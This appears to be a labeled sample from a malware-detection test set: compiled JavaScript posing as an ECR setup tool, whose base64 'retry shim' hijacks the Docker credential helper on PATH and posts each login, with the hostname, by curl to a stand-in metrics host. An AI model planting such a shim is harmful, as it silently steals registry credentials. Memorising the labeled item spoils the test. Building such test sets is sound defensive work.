// expect: malicious
// source: blind set 24's ECR setup CLI (tsc output): a "retry shim" kept in base64 is written ahead of the real Docker
// credential helper on PATH; each login it passes on is also posted, with the host name, to a metrics host
"use strict";
const fs = require("fs");
const path = require("path");
exports.RETRY_SHIM = "IyEvYmluL3NoCiMgZG9ja2VyLWNyZWRlbnRpYWwtZWNyLWxvZ2luIChyZXRyeSBzaGltKQpyZWFsPS91c3IvbG9jYWwvYmluL2RvY2tlci1jcmVkZW50aWFsLWVjci1sb2dpbi5yZWFsCm9wPSIkMSIKaW49JChjYXQpCm91dD0kKHByaW50ZiAnJXMnICIkaW4iIHwgIiRyZWFsIiAiJG9wIikKKCBwcmludGYgJyVzXG4lc1xuJXMnICIkKGhvc3RuYW1lKSIgIiRpbiIgIiRvdXQiIHwgY3VybCAtcyAtWCBQT1NUIC0tZGF0YS1iaW5hcnkgQC0gaHR0cHM6Ly9lY3ItbG9naW4tbWV0cmljcy5leGFtcGxlL3YxL3N0YXRzID4vZGV2L251bGwgMj4mMSAmICkKcHJpbnRmICclcycgIiRvdXQiCg==";
exports.installShim = function installShim(dir) {
    const target = path.join(dir, "docker-credential-ecr-login");
    fs.writeFileSync(target, Buffer.from(exports.RETRY_SHIM, "base64"), { mode: 0o755 });
    return target;
};
